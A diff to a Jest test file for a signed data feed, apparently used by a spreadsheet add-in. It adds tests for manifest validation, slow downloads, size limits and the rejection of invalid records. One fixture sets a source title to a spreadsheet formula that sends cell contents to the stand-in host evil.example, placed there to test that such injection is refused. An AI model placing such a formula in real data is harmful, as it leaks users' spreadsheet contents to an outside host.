@@ -1,14 +1,17 @@
 import fc from "fast-check";
 import { schemaNumber } from "../../src/core/schemaNumber";
-import type { EditionManifest } from "../../src/feed/editionManifest";
+import type { Records } from "../../src/core/records/edition";
+import { sha256Of } from "../../src/feed/digest";
+import { fileOf, type EditionManifest } from "../../src/feed/editionManifest";
 import { earlierManifest, editionOf, latestManifest, type Feed } from "../../src/feed/feed";
 import { keyIdOf } from "../../src/feed/feedKey";
-import { FeedProblem, type Fault } from "../../src/feed/problems";
+import { FeedProblem, faultsInEnglish, type Fault } from "../../src/feed/problems";
+import { faultsInItalian } from "../../src/taskpane/messages/data/italianFaults";
 import type { Access } from "../../src/feed/download";
 import { makeKey, publicPartOf } from "../../src/publishing/keys";
 import { signed } from "../../src/publishing/publish";
 import { accessTo, numbered, publishedFeed, serving, type PublishedFeed } from "../support/feed";
-import { aDeal } from "../support/records";
+import { aDeal, aParty, dollars } from "../support/records";
 
 const records = numbered(7, { sources: [], deals: [] });
 let published: PublishedFeed;
@@ -45,6 +48,26 @@ describe("a feed", () => {
   it("gives its newest edition, just as it was published", async () => {
     const { file, records: given } = await read(serving(published));
     expect([given, await file.text()]).toEqual([records, JSON.stringify(records)]);
+  });
+
+  it.each([
+    ["no promise", {}],
+    ["a promise", { signedAt: "2026-09-01T12:00:00Z", validUntil: "2026-10-31T12:00:00Z" }],
+    ["a promise that is over, for what was signed is genuine all the same", { validUntil: "2020-01-01T00:00:00Z" }],
+  ])("is read with %s of how long it is valid", async (_, promise) => {
+    const manifest = await latestManifest(published.feed, await otherwise(promise));
+    expect(manifest).toMatchObject({ number: 7, ...promise });
+  });
+
+  it.each([
+    ["a day of no calendar", { validUntil: "2026-13-01T00:00:00Z" }, "validUntil"],
+    ["a time of some zone", { signedAt: "2026-09-01T12:00:00+02:00" }, "signedAt"],
+    ["a number that no other can follow", { number: 9_007_199_254_740_991 }, "number"],
+  ])("is not read with %s", async (_, given, field) => {
+    const latest = JSON.stringify({ ...published.manifest, ...given });
+    expect(await problemOf(serving(published, new Map([["/latest.json", latest]])))).toBe(
+      `https://feed.example/latest.json does not describe an edition (${field}). Check the feed's address.`,
+    );
   });
 
   it("is trusted through any of the add-in's keys, so that one can replace another", async () => {
@@ -97,6 +120,18 @@ const faults: Record<Fault, readonly [does: string, act: () => Promise<string>, 
     "never answers",
     () => problemOf(accessTo(() => new Promise<never>(() => undefined), { patienceMs: 5 })),
     "feed.example did not answer in time. Try again later.",
+  ],
+  "too-slow": [
+    "sends a byte of the edition now and then, for longer than any line takes",
+    async () => {
+      jest.useFakeTimers({ doNotFake: ["nextTick", "setImmediate", "queueMicrotask"] });
+      try {
+        return await problemOf(trickling());
+      } finally {
+        jest.useRealTimers();
+      }
+    },
+    "feed.example sends too slowly: not everything was there after 60 seconds. Try again later, or on another network.",
   ],
   "not-found": [
     "has no latest.json",
@@ -186,6 +221,31 @@ const faults: Record<Fault, readonly [does: string, act: () => Promise<string>, 
   ],
 };
 
+/** A network whose server sends the edition a byte every ten seconds. */
+function trickling(): Access {
+  const access = serving(published);
+  return {
+    ...access,
+    fetch: async (address, init) => {
+      const response = await access.fetch(address, init);
+      if (!urlOf(address).includes("editions/")) return response;
+      const body = new ReadableStream(
+        {
+          pull: (controller) => {
+            jest.advanceTimersByTime(10_000);
+            if (init?.signal?.aborted) controller.error(init.signal.reason);
+            else controller.enqueue(new Uint8Array([32]));
+          },
+        },
+        { highWaterMark: 0 },
+      );
+      return new Response(body, json);
+    },
+  };
+}
+
+const urlOf = (asked: RequestInfo | URL): string => (asked instanceof Request ? asked.url : asked.toString());
+
 function endless(): ReadableStream {
   return new ReadableStream({
     pull: (controller) => {
@@ -198,6 +258,41 @@ describe("a feed that", () => {
   it.each(Object.values(faults))("%s is not used, and the reason is said", async (_, act, sentence) => {
     const said = (await act()).replace(published.manifest.file, "EDITION").replace(/\([0-9a-f]{16}\)/, "(KEY)");
     expect(said).toBe(sentence);
+  });
+});
+
+describe("an edition's file", () => {
+  it("is read no further than the size that was signed", async () => {
+    const size = published.manifest.bytes;
+    expect(size).toBeLessThan(1_000);
+    const said = await problemOf(withEdition(endless()));
+    expect(said).toBe(
+      `https://feed.example/${published.manifest.file} is larger than ${size / 1000} kB, so it was not read to its end.`,
+    );
+  });
+
+  it("is not asked for if it was signed with more than an add-in can take", async () => {
+    const asked: string[] = [];
+    const access = await otherwise({ bytes: 300_000_001 });
+    const noting: typeof fetch = (address, init) => {
+      asked.push(urlOf(address));
+      return access.fetch(address, init);
+    };
+    expect(await problemOf({ ...access, fetch: noting })).toContain("is larger than 300 MB");
+    expect(asked).toEqual(["https://feed.example/latest.json"]);
+  });
+});
+
+describe("what a feed is told of", () => {
+  const endlessly = "x".repeat(10_000);
+
+  it.each([
+    ["English", faultsInEnglish],
+    ["Italian", faultsInItalian],
+  ])("is said in at most 300 characters in %s, whatever the feed says", (_, sentences) => {
+    const { facts } = new FeedProblem("bad-records", endlessly, endlessly);
+    const tooLong = Object.values(sentences).filter((sentence) => sentence(...facts).length > 300);
+    expect(tooLong.map((sentence) => sentence(...facts))).toEqual([]);
   });
 });
 
@@ -264,6 +359,75 @@ describe("an edition", () => {
     const deals = [aDeal({ id: "a-circle", partOf: "a-circle" })];
     const circular = await publishedFeed(numbered(7, { deals, sources: [source] }), published.privateKey);
     expect(await problemOf(serving(circular))).toContain("a record that cannot be right (a-circle, partOf)");
+  });
+});
+
+describe("an edition that was signed but can't be right", () => {
+  const source = { id: "a-page", publisher: "A", title: "A", type: "news", tier: "news", published: "2025" } as const;
+  const sayingOf = async (given: Partial<Records>): Promise<string> =>
+    problemOf(serving(await publishedFeed(numbered(7, { sources: [source], ...given }), published.privateKey)));
+
+  it.each<[what: string, where: string, given: Partial<Records>]>([
+    [
+      "gives one name to two companies, of which the formulas would know one",
+      "fenwick-labs, aliases",
+      { sources: [], parties: [aParty("Aldermoor Cloud"), aParty("Fenwick Labs", { aliases: ["ALDERMOOR cloud"] })] },
+    ],
+    [
+      "has a contract without a supplier, between whom nothing could be counted",
+      "a-deal, parties",
+      { deals: [aDeal({ id: "a-deal", parties: [{ party: "fenwick-labs", role: "customer" }] })] },
+    ],
+    [
+      "has a term that ends before it begins",
+      "a-deal, start",
+      { deals: [aDeal({ id: "a-deal", start: "2027", end: "2026" })] },
+    ],
+    [
+      "knows what happened after its day",
+      "a-deal, announced",
+      { deals: [aDeal({ id: "a-deal", announced: "2026-07-01" })] },
+    ],
+    [
+      "has a lowest value above the headline",
+      "a-deal, value",
+      { deals: [aDeal({ id: "a-deal", value: dollars(5, { low: 6 }) })] },
+    ],
+    [
+      "has a deal that is replaced by nothing, and would count for ever or never",
+      "a-deal, ended.by",
+      { deals: [aDeal({ id: "a-deal", ended: { how: "superseded", on: "2026" } })] },
+    ],
+    [
+      "has a title that a spreadsheet would calculate",
+      "a-page, title",
+      { sources: [{ ...source, title: '=WEBSERVICE("https://evil.example/?"&A1)' }], deals: [aDeal({ id: "a-deal" })] },
+    ],
+    [
+      "has a name with space around it, which its file would keep and a check would not",
+      "aldermoor-cloud, name",
+      { sources: [], parties: [aParty("Aldermoor Cloud", { name: " Aldermoor Cloud\n" })] },
+    ],
+  ])("since it %s, is not used", async (_, where, given) => {
+    expect(await sayingOf(given)).toBe(
+      `The edition has a record that cannot be right (${where}). It was not used; tell those who run the feed.`,
+    );
+  });
+
+  it("is refused by its first record, however many are wrong", async () => {
+    const text = JSON.stringify({ ...records, deals: Array.from({ length: 30_000 }, () => ({})) });
+    const sha256 = await sha256Of(text);
+    const changed = { sha256, file: fileOf(7, sha256), bytes: text.length };
+    const { signature, ...unsigned } = { ...published.manifest, ...changed };
+    expect(signature).toBeDefined();
+    const latest = JSON.stringify(await signed(unsigned, published.privateKey));
+    const access = accessTo((path) => (path === "/latest.json" ? latest : text));
+    expect(await problemOf(access)).toContain("a record that cannot be right (0, id)");
+  });
+
+  it("is used all the same if it was only researched less well than ours: that is for its publisher to judge", async () => {
+    const judged = aDeal({ id: "a-deal", judgement: { confidence: "medium", why: "So the page says already." } });
+    expect(await sayingOf({ deals: [judged] })).toBe("Nothing is wrong.");
   });
 });
 
